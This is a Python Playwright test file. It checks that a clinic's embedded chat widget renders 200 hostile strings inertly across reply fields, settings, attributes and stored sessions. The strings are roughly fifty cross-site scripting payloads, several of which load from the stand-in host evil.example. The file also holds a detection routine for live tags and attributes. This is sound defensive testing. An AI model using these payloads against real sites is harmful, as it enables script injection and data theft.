"""200 strings that try to become code, through every field that reaches the page."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser import scripts
from tests.browser.mock_server import MockServer
from tests.browser.states import ask, open_chat

Visit = Callable[..., Page]

CORES = [
    "<script>hit()</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hit()'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>",
    "<a href='java&#10;script:hit()'>x</a>",
    "<form action=javascript:hit()><button>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<body onload=hit()>",
    "<style>*{background:url(//evil.example/css)}</style>",
    "<style>@import '//evil.example/css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<textarea></textarea><img src=x onerror=hit()>",
    "<title></title><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:image/svg+xml,<svg onload=hit()>",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://evil.example/"onmouseover=hit()//',
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    "`-hit()-`",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "</back-assistant><img src=x onerror=hit()>",
]
WRAPS: list[Callable[[str], str]] = [
    lambda core: core,
    lambda core: f"[link]({core}) ![picture]({core}) <{core}> [{core}](https://clinic.example/)",
    lambda core: f"**{core}** `{core}` \n\n- {core}\n\n> {core}\n\n# {core}",
    lambda core: (
        f"| {core} | b |\n|---|---|\n| {core} | [x]({core}) |\n\n```{core}\n{core}\n```\n\n[1]: {core}"
    ),
]
STRINGS = [wrap(core) for core, wrap in itertools.product(CORES, WRAPS)]

INIT = """window.hits = []; window.hit = (...a) => { window.hits.push(new Error().stack) };
for (const name of ['alert', 'prompt', 'confirm', 'print', 'open']) window[name] = window.hit;"""

INSPECT = """() => {
  const bad = [];
  const LIVE = ['script', 'iframe', 'object', 'embed', 'img', 'image', 'video', 'audio', 'source',
    'link', 'meta', 'base', 'style', 'foreignobject', 'animate', 'set', 'use', 'frame', 'template'];
  const ADDRESSES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background'];
  const walk = root => {
    for (const node of root.querySelectorAll('*')) {
      const tag = node.localName;
      if (LIVE.includes(tag.toLowerCase())) bad.push(tag);
      for (const {name, value} of node.attributes) {
        const style = name === 'style' && /url|expression/i.test(value);
        if (/^on/i.test(name) || style || name === 'srcdoc') bad.push(`${tag} ${name}`);
        const address = ADDRESSES.includes(name.toLowerCase());
        if (address && !/^(https?:|tel:|mailto:)/.test(value)) bad.push(`${tag} ${name}=${value}`);
        if (node.target === '_blank' && !/noopener/.test(node.rel)) bad.push('no noopener');
      }
      if (node.shadowRoot) walk(node.shadowRoot);
    }
  };
  walk(document.querySelector('back-assistant').shadowRoot);
  return bad;
}"""


def hostile(text: str) -> dict[str, Any]:
    """Return a reply with `text` in every field."""
    exercise = {"id": text, "name": text, "why": text, "steps": [text, text], "dose": text, "figure": text}
    return {
        "conversation_id": text,
        "message_id": text,
        "topic": text,
        "answer": f"{text}\n\n{text} [1]",
        "referral": {
            "level": "refer",
            "when": "soon",
            "reasons": [{"signal": text, "evidence": text, "turn": 1}],
            "actions": [
                {"kind": kind, "label": text, "url": text} for kind in ("link", "form", "phone", text)
            ],
        },
        "citations": [{"id": text, "guide": text, "section": text, "url": text, "quote": text}],
        "exercises": [exercise, {**exercise, "figure": f"/figures/{text}.svg"}],
        "plan": {
            "calendar_url": text,
            "days": [{"day": text, "run": text, "work": text, "minutes": [text, 1], "exercises": [text]}],
        },
        "suggestions": [text],
        "grounding": {"mode": text, "supported": 1},
        "language": text,
    }


def watch(page: Page, server: MockServer, outside: list[str]) -> None:
    """Note every request that leaves the assistant's own server."""
    page.on(
        "request", lambda request: None if request.url.startswith(server.url) else outside.append(request.url)
    )


def test_there_are_200_of_them() -> None:
    assert len(set(STRINGS)) == 200


@pytest.mark.parametrize("part", range(4))
def test_no_string_becomes_code_or_loads_anything(visit: Visit, server: MockServer, part: int) -> None:
    page = visit(init=INIT)
    outside: list[str] = []
    page.on(
        "request", lambda request: None if request.url.startswith(server.url) else outside.append(request.url)
    )
    page.on("dialog", lambda dialog: (outside.append(dialog.message), dialog.dismiss()))
    open_chat(page)
    around = page.evaluate("document.documentElement.outerHTML")
    for text in STRINGS[part::4]:
        server.script.default = hostile(text)
        server.script.replies = {}
        # What the visitor types is drawn too.
        ask(page, text.replace("\n", " ") or "x")
    page.locator("back-assistant").evaluate(
        "node => node.shadowRoot.querySelectorAll('details').forEach(d => { d.open = true })"
    )
    for marker in page.locator("back-assistant .cite").all()[:10]:
        marker.click()
    page.wait_for_timeout(400)
    assert page.evaluate("window.hits") == []
    assert outside == []
    assert page.evaluate(INSPECT) == []
    assert page.evaluate("document.documentElement.outerHTML") == around, "nothing leaves the shadow root"
    expect(page.locator("back-assistant .turn")).to_have_count(50)


def test_hostile_clinic_settings_errors_and_attributes(visit: Visit, server: MockServer) -> None:
    outside: list[str] = []
    for text in STRINGS[::10]:
        server.script.config = {
            "clinic": {"name": text, "privacy_url": text, "country": text},
            "actions": [{"kind": "link", "label": text, "url": text}],
            "greeting": text,
            "starters": [text, text],
            "storage": True,
        }
        server.script.error = (422, {"error": {"code": text, "message": text}}, {})
        page = visit("/embed", init=INIT)
        page.on(
            "request",
            lambda request: None if request.url.startswith(server.url) else outside.append(request.url),
        )
        expect(page.locator("back-assistant .chip")).to_have_count(2)
        page.locator("back-assistant .chip").first.click()
        expect(page.locator("back-assistant .problem")).to_be_visible()
        page.get_by_role("button", name="Chat options").click()
        page.get_by_role("button", name="Talk to the clinic").click()
        page.evaluate(
            """text => { const node = document.createElement('back-assistant');
              for (const name of ['accent', 'label', 'title', 'greeting', 'starters', 'booking', 'lang'])
                node.setAttribute('data-' + name, text);
              document.body.append(node); node.open() }""",
            text,
        )
        assert page.evaluate("window.hits") == []
        assert page.evaluate(INSPECT) == []
        page.context.close()
    assert outside == []


def test_a_tampered_session_does_no_harm(visit: Visit, server: MockServer) -> None:
    page = visit(init=INIT)
    open_chat(page)
    ask(page, "Why do runners strain their backs?")
    page.evaluate(
        """reply => { const key = Object.keys(sessionStorage)[0];
          const session = JSON.parse(sessionStorage[key]);
          session.turns[0].reply = reply; session.turns[0].partial = reply.answer;
          session.turns.push({text: '<img src=x onerror=hit()>', state: 'odd', reply: 7, referral: []},
            null, 7);
          sessionStorage[key] = JSON.stringify(session) }""",
        hostile(CORES[3]),
    )
    page.reload()
    expect(page.locator("back-assistant .turn")).to_have_count(2)
    assert page.evaluate("window.hits") == []
    assert page.evaluate(INSPECT) == []
    page.evaluate("sessionStorage[Object.keys(sessionStorage)[0]] = '{{{'")
    page.reload()
    expect(page.locator("back-assistant .launcher")).to_be_visible()


def test_a_server_of_another_mind_does_no_harm(visit: Visit, server: MockServer) -> None:
    """Fields of wrong types, missing fields, a thousand of each."""
    page = visit()
    open_chat(page)
    many = [scripts.BIRD_DOGS] * 1000
    odd: list[dict[str, Any]] = [
        {"answer": 7, "referral": 3},
        {"answer": None, "referral": {"level": "panic"}, "citations": "x", "exercises": {"a": 1}, "plan": []},
        {"answer": "ok [99] [0]", "referral": None, "suggestions": [None, {}, 5], "plan": {"days": [3]}},
        {"answer": "x" * 60_000, "referral": {}, "exercises": many, "suggestions": ["a"] * 1000},
        {"answer": "**" * 5000 + "[" * 5000, "referral": {}},
    ]
    for reply in odd:
        server.script.default = reply
        server.script.replies = {}
        ask(page, "x")
    server.script.default = scripts.ANSWER
    ask(page, "Why do runners strain their backs?")
    expect(page.locator("back-assistant .turn").last.locator(".cite")).to_have_count(6)
